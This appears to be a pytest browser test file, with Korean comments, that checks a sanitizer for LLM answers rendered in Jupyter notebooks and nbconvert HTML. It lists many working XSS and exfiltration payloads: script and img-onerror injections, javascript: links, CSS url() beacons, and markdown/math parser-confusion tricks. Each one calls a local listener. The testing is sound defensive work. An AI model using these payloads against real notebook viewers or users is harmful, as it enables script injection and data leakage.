"""해로운 답변이 저장된 노트북을 열어도, 셀을 실행해 그런 답변을 받아도 아무 데로도 요청이 나가지 않고, 아무 코드도 실행되지 않습니다.

곁에 띄운 서버가 귀를 기울입니다. 다듬지 않은 답변이면 그 서버에 요청이 오는 것도 함께 확인합니다.
"""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbconvert import HTMLExporter

from llmkit.display.markdown import to_display
from tests.browser import lab

playwright = pytest.importorskip("playwright.sync_api", reason=lab.NO_PLAYWRIGHT)
pytestmark = [pytest.mark.browser, pytest.mark.skipif(lab.CHROMIUM is None, reason=lab.NO_CHROMIUM)]

FETCH = "<img src=BEACON/NUMBER onerror='window.hacked = 1'><script>fetch('BEACON/NUMBER'); window.hacked = 1</script>"
ANSWERS = [
    "![고양이](BEACON/NUMBER?q=비밀)",
    "!![고양이](BEACON/NUMBER)와 [![고양이](BEACON/NUMBER)](BEACON/NUMBER)",
    "![고양이][c]\n\n[c]: BEACON/NUMBER",
    FETCH,
    f"\\begin{{a}}\n```\n\\end{{a}}{FETCH}\n```",
    f"$$\n```\n$$ {FETCH}\n```",
    f"\\\\[\n~~~\n\\\\] {FETCH}\n~~~",
    f"`$$`\n\n```\n$$ {FETCH}\n```",
    f"- a\n          ```\n          x\n          ```\n```\n{FETCH}\n```",
    f"- \ta\n   ```\n\n{FETCH}",
    f"> ```\n{FETCH}",
    f"[x]:\n~~~\n{FETCH}\n~~~",
    f"```mermaid\n{FETCH}\n```",
    r"$\bbox[background:url(BEACON/NUMBER)]{x}$ $\hr&#101;f{javascript:window.hacked=1}{x}$",
    f"| `a | {FETCH}` |\n|---|---|\n| b | c |",
    r"$\href{javascript:window.hacked=1}{x}$ $\includegraphics{BEACON/NUMBER}$ $x![a](BEACON/NUMBER)$",
    "<style>@import 'BEACON/NUMBER'; * {background: url(BEACON/NUMBER)}</style>",
    "<iframe src=BEACON/NUMBER></iframe><svg><image href=BEACON/NUMBER /></svg><link rel=stylesheet href=BEACON/NUMBER>",
    # JupyterLab은 수식을 먼저 빼 두었다가 다 만든 HTML에 되돌려 놓습니다. 직접 실행한 셀의 출력은 믿고 거르지 않습니다.
    '[a](https://x.kr/$"style="background:url(BEACON/NUMBER)"$)',
    '[a](https://x.kr "$"onmouseover=window.hacked=1//$")',
    'https://x.kr/$"style="background:url(BEACON/NUMBER)"$',
    '[a]: https://x.kr/$"style="background:url(BEACON/NUMBER)"$\n\n[a]',
    '<https://a.kr/$> "style="background:url(BEACON/NUMBER)"x=" <https://b.kr/$>',
    'www.a.kr/$"style="background:url(BEACON/NUMBER)"$ [x](a.md#$"style="background:url(BEACON/NUMBER)"$)',
    "[누르세요](javascript:window.hacked=1) <javascript:window.hacked=1> [누르세요](&#106;avascript:window.hacked=1)",
]


@pytest.fixture
def heard() -> Iterator[tuple[str, list[str]]]:
    """(귀를 기울이는 서버의 주소, 들은 경로들)"""
    paths: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", paths
        server.shutdown()


def saved(path: Path, beacon: str, shown: Callable[[str], str]) -> Any:
    cells = []
    for number, answer in enumerate(ANSWERS):
        text = answer.replace("BEACON", beacon).replace("NUMBER", str(number))
        data = {"text/plain": text, "text/markdown": shown(text)}
        cells.append(nbformat.v4.new_code_cell(f"display({data!r}, raw=True)", execution_count=1))
        cells[-1].outputs = [nbformat.v4.new_output("display_data", data=data)]
    spec = {"kernelspec": {"name": "python3", "display_name": "Python 3"}}
    notebook = nbformat.v4.new_notebook(cells=[*cells, nbformat.v4.new_markdown_cell("## 끝")], metadata=spec)
    nbformat.write(notebook, path)
    return notebook


@pytest.mark.parametrize("shown", [to_display, str], ids=["safe", "raw"])
def test_nbconvert_html_fetches_and_runs_nothing(
    shown: Callable[[str], str], heard: tuple[str, list[str]], tmp_path: Path
) -> None:
    beacon, paths = heard
    exporter = HTMLExporter(mathjax_url="", require_js_url="", jquery_url="")
    page_file = tmp_path / "page.html"
    page_file.write_text(exporter.from_notebook_node(saved(tmp_path / "page.ipynb", beacon, shown))[0])
    with lab.chromium() as browser:
        page = browser.new_page()
        page.goto(page_file.as_uri(), wait_until="load")
        page.wait_for_timeout(1000)
        hacked = page.evaluate("window.hacked")
        links = page.locator("a[href^='javascript' i]").count()
    if shown is to_display:
        assert (paths, hacked, links) == ([], None, 0)
    else:
        assert paths and hacked  # 다듬지 않으면 들립니다.


@pytest.mark.parametrize("shown", [to_display, str], ids=["safe", "raw"])
def test_jupyterlab_fetches_and_runs_nothing(
    shown: Callable[[str], str], heard: tuple[str, list[str]], tmp_path: Path
) -> None:
    beacon, paths = heard
    saved(tmp_path / "page.ipynb", beacon, shown)
    with lab.jupyter(tmp_path) as address, lab.chromium() as browser:
        page = browser.new_page(viewport={"width": 1300, "height": 4000})
        lab.open_notebook(page, address, "page.ipynb")
        page.wait_for_selector("h2:has-text('끝')", timeout=60_000)
        page.wait_for_timeout(2000)
        opened = [*paths]
        lab.run_all(page)
        outputs = page.locator(".jp-RenderedMarkdown.jp-OutputArea-output")
        assert outputs.count() == len(ANSWERS)
        for link in outputs.locator("a:visible").all():
            link.hover(force=True)
        page.wait_for_timeout(1000)
        hacked = page.evaluate("window.hacked")
        links = outputs.locator("a[href^='javascript' i]").count()
    if shown is to_display:
        assert (opened, paths, hacked, links) == ([], [], None, 0)
    else:
        assert opened and len(paths) > len(opened) and hacked  # 다듬지 않으면 들립니다.
